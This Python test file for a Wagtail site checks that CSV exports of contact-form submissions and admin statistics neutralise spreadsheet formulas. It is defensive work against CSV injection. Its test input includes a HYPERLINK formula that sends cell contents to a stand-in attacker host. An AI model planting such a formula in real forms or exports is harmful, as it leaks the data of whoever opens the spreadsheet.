"""No CSV the site writes carries a spreadsheet formula: a visitor's
"=HYPERLINK(…)" in the contact form reaches the editor's export as text."""

import csv
import io

from wagtail.contrib.forms.models import FormSubmission

from pages.models import ContactPage

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_form_submission_export_neutralises_formulas(client, demo_site, admin_user):
    contact = ContactPage.objects.get(locale__language_code="en")
    page = client.get(contact.url).content.decode()
    assert "your_name" in page
    data = {"your_name": FORMULA, "email": "anna@example.com", "message": "@SUM(1+1)", "website": ""}
    assert client.post(contact.url, data).status_code == 302
    assert FormSubmission.objects.count() == 1
    client.force_login(admin_user)
    response = client.get(f"/admin/forms/submissions/{contact.pk}/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_statistics_export_neutralises_formulas(client, home_page, admin_user):
    client.force_login(admin_user)
    response = client.get("/admin/ops/statistics/", {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
